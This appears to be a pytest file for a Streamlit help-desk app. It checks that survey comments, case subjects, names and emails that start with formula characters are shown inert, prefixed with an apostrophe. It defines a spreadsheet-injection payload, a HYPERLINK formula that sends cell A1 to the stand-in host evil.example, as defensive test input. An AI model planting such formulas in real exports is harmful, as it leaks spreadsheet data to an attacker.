"""Tables on screen carry no live spreadsheet formula: Streamlit's own "Download as CSV" (and copying cells)
takes the cells as shown, so text a user typed is made inert there exactly as in our exports."""

import sqlalchemy as sa

from models import Case
from services import surveys, users
from services.db import unit_of_work
from services.reports import inert_cell
from tests.conftest import logged_in_app, make_user, register_case, resolve_case

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Ver")'
SIGNED = ("+57 300 000", "-1+1", "@SUM(1)")


def _people(desk, **names):
    make_user(desk, "ana.perez", full_name=names.get("ana", "Ana Pérez"))
    make_user(desk, "laura.rios", role="advisor", areas=["Gestión Tecnológica"], full_name="Laura Ríos")
    make_user(desk, "marta.luna", role="manager", full_name="Marta Luna")


def _cells(at, index=0):
    frame = at.dataframe[index].value
    return [value for column in frame.columns for value in frame[column].tolist()]


def _no_live_formula(cells):
    live = [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, live


def test_a_survey_comment_with_a_formula_is_inert_in_the_satisfaccion_comments_table(desk, tmp_path):
    _people(desk)
    number = register_case(desk, tmp_path, subject="Impresora")
    resolve_case(desk, number)
    with unit_of_work(desk) as session:
        surveys.answer(
            session=session,
            actor=users.load_actor(session=session, username="ana.perez"),
            number=number,
            round=1,
            resolved=False,
            comment=FORMULA,
        )
    at = logged_in_app("marta.luna")
    at.switch_page("app_pages/satisfaccion.py").run()
    assert not at.exception
    comments = at.dataframe[0].value
    assert comments["Comentario"].tolist() == ["'" + FORMULA]
    _no_live_formula(_cells(at))


def test_a_subject_and_a_requester_name_with_formulas_are_inert_in_the_bandeja(desk, tmp_path):
    _people(desk, ana=FORMULA)
    subjects = [FORMULA, *SIGNED]
    for subject in subjects:
        register_case(desk, tmp_path, subject=subject)
    at = logged_in_app("laura.rios")
    at.switch_page("app_pages/bandeja.py").run()
    assert not at.exception
    table = at.dataframe[0].value
    assert sorted(table["Asunto"]) == sorted(inert_cell(s) for s in subjects)
    assert set(table["Solicitante"]) == {"'" + FORMULA}
    _no_live_formula(_cells(at))


def test_a_name_and_an_email_with_formulas_are_inert_in_the_users_list(desk):
    make_user(desk, "eva.mora", full_name=FORMULA)
    with unit_of_work(desk) as session:
        session.execute(sa.text("UPDATE users SET email = :e WHERE username = 'eva.mora'"), {"e": "=1+1@evil.example"})
    at = logged_in_app("admin.mesa")
    at.switch_page("app_pages/admin_usuarios.py").run()
    assert not at.exception
    _no_live_formula(_cells(at))
    assert "'" + FORMULA in _cells(at)


def test_the_case_number_stays_a_number_and_plain_text_is_shown_as_typed(desk, tmp_path):
    _people(desk)
    number = register_case(desk, tmp_path, subject="Impresora sin tóner")
    at = logged_in_app("laura.rios")
    at.switch_page("app_pages/bandeja.py").run()
    table = at.dataframe[0].value
    assert table["Número"].tolist() == [number]
    assert table["Asunto"].tolist() == ["Impresora sin tóner"]
    with unit_of_work(desk, write=False) as session:
        assert session.scalar(sa.select(Case.subject).where(Case.number == number)) == "Impresora sin tóner"
